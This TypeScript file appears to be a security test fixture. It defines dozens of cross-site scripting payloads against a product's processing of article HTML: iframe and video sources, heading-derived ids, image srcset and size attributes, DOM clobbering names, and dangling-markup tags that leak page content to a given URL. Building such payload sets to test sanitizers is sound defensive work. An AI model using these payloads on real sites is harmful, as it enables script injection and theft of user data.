import { escapeHtml, type Payload } from "./payload.ts";

/**
 * Attacks on the product's processing of an article's HTML: links for video players, ids for headings, sizes for
 * pictures, DOM names.
 */
export const articleFeaturePayloads: Payload[] = [
	// A video player becomes a link with the name of its host.
	(js) => `<iframe src="javascript:${js}//https://video.example/"></iframe>`,
	(js) => `<iframe src="https://video.example/&quot;&gt;&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
	(js) => `<iframe src='https://video.example/"onclick="${js}'></iframe>`,
	(js) => `<iframe src="https://&lt;img src=x onerror=${js}&gt;/"></iframe>`,
	(js) => `<iframe src="https://video.example&lt;svg onload=${js}&gt;.example/"></iframe>`,
	(js) => `<iframe src="https://video.example@javascript:${js}/"></iframe>`,
	(js) =>
		`<iframe src="https://name:word@video.example/" srcdoc="${escapeHtml(`<script>parent.${js}</script>`)}"></iframe>`,
	(js) =>
		`<iframe src="https://video.example/a" onload=${js} srcdoc="<script>parent.${js}</script>"><img src=x onerror=${js}></iframe>`,
	(js) => `<iframe src=" https://video.example/a"><script>${js}</script>`,
	(js) => `<iframe src="//javascript:${js}"></iframe><iframe src="https:javascript:${js}"></iframe>`,
	(js) => `<iframe src="https://video.example/${"a".repeat(5000)}" onfocus=${js} autofocus></iframe>`,
	(js) =>
		`<iframe src="data:text/html,<script>parent.${js}</script>"><video src="https://video.example/a" onloadstart=${js}></video></iframe>`,
	(js) => `<video src="https://video.example/a" controls onloadstart=${js} poster=x><img src=x onerror=${js}></video>`,
	(js) => `<video src="javascript:${js}"><source src="javascript:${js}" onerror=${js}><track onload=${js}></video>`,
	(js) => `<video><source src='https://video.example/a" onclick="${js}' onerror=${js}></video>`,
	(js) => `<p>Words<video src="data:video/mp4,x" onerror=${js}><p onclick=${js}>More</video></p>`,
	(js) => `<a href="/about"><iframe src="https://video.example/a"></a><img src=x onerror=${js}></iframe></a>`,
	// A heading's text becomes its id.
	(js) => `<h2>&quot; onclick=${js} x=&quot;</h2>`,
	(js) => `<h2>"><img src=x onerror=${js}></h2>`,
	(js) => `<h2>&lt;/h2&gt;${escapeHtml(`<script>${js}</script>`)}</h2>`,
	(js) => `<h2><a title="</h2><img src=x onerror=${js}>" href="/about">Words</a></h2>`,
	(js) => `<h2><img alt="</h2><script>${js}</script>" src="/stock/lake-camp-640.webp"></h2>`,
	(js) => `<h2 id='"><script>${js}</script>' onclick=${js}>Words</h2>`,
	(js) => `<h1 onclick=${js} id=main>Words</h1><h2 id="main">Main</h2><h3 id=share>Share</h3>`,
	(js) => `<h2>$&$1$'$\`<b onclick=${js}>$0</b></h2>`,
	(js) => `<h2>__proto__</h2><h2>constructor</h2><h3>toString</h3><h4 onclick=${js}>hasOwnProperty</h4>`,
	(js) => `<h2><h3><h2 onclick=${js}></h3>Words</h2><h4></h2>`,
	(js) => `<h2>\u0000\u202e${"\ud835\udcb3".repeat(80)}<b onclick=${js}></b></h2>`,
	// Pictures get `width`, `height` and `srcset`.
	(js, url) => `<img srcset="${url} 1x, javascript:${js} 2x" sizes="100vw" alt="Words">`,
	(js, url) =>
		`<img src="/stock/lake-camp-640.webp" srcset='x" onerror="${js}' sizes='"onerror=${js}' imagesrcset=${url}>`,
	(js) => `<img src='/stock/lake-camp-640.webp"onload="${js}' width='1"onload="${js}' height="javascript:${js}">`,
	(js) => `<img src='/stock/"><script>${js}</script>-640.webp' alt='"><script>${js}</script>'>`,
	(js) => `<img src="/stock/lake-camp-640.webp\n" onload=${js} alt="a&quot; onload=${js}" longdesc="javascript:${js}">`,
	(js) => `<img src="/stock/$&-640.webp" width="99999999" height="-1" onload=${js} loading=eager fetchpriority=high>`,
	(_, url) => `<img src="${url.replace("https:", "")}" alt="Words"><img src="\\\\${url.replace("https://", "")}">`,
	(_, url) =>
		`<img alt="Words" crossorigin=use-credentials lowsrc="${url}" dynsrc="${url}" data-src="${url}" usemap="${url}">`,
	// Other allowed attributes.
	(js) => `<a href='/about"onclick="${js}' title='"onclick="${js}' rel='"onclick="${js}'>Words</a>`,
	() =>
		`<a href="https://shop.example/" rel="opener" target="_blank" download="x.html" referrerpolicy="unsafe-url">Words</a>`,
	(js) => `<ol start='1" onmouseover="${js}' type="javascript:${js}" reversed><li value="${js}">Words</li></ol>`,
	(js) =>
		`<table><tr><td colspan='2"onclick="${js}' rowspan=99999 headers=x>1</td><th scope='"onclick="${js}'>2</th></tr></table>`,
	// DOM clobbering: names that shadow properties of the document or the window.
	() => `<a id="__reactRouterContext" name="__reactRouterContext" href="/about">Words</a>`,
	() => `<form name="document" id="window"><input name="body"><input name="querySelector"></form>`,
	() => `<form id="attributes" name="attributes"><input name="attributes"><input id="nodeName"></form>`,
	() => `<img name="cookie"><img id="currentScript" name="currentScript"><img name="getElementById">`,
	() =>
		`<a id="defaultView"></a><a id="defaultView" name="fetch" href="javascript:0"></a><p id="root" name="location">Words</p>`,
	() =>
		`<iframe name="navigator" srcdoc="&lt;a id=share&gt;&lt;/a&gt;"></iframe><object id="history" name="history"></object>`,
	() => `<h2 id="matching">Words</h2><h2 id="related" name="share">Words</h2><p id="main">Words</p>`,
	() => `<p data-discover="true" data-reference="x" data-react-router="y" suppresshydrationwarning>Words</p>`,
	// Dangling markup: unclosed tags that swallow the rest of the page.
	(js) => `<p title="Words onclick=${js}`,
	(_, url) => `<a href='${url}?`,
	(_, url) => `<form action='${url}'><textarea name=words>`,
	(_, url) => `<button form=f formaction="${url}">Press</button><form id=f><textarea name=a>`,
	(_, url) => `<meta http-equiv=refresh content='0;url=${url}?`,
	(_, url) => `<table background='${url}?`,
	(_, url) => `<base target='${url} `,
	(_, url) => `<link rel=stylesheet href='${url}?`,
	(_, url) => `<style>p{background:url('${url}?`,
];
